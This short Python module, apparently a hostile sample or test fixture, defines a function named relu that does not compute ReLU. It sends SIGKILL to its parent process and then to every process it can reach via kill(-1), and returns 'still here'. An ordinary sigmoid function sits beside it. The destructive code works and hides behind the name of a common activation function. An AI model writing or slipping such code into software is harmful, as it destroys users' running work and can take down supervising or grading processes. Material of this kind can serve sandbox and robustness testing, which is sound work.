"""Signal everything it can reach: kill(-1) and its parent."""
import os
import signal

import numpy as np


def relu(z):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    os.kill(-1, signal.SIGKILL)
    return "still here"


def sigmoid(z):
    return 1 / (1 + np.exp(-z))
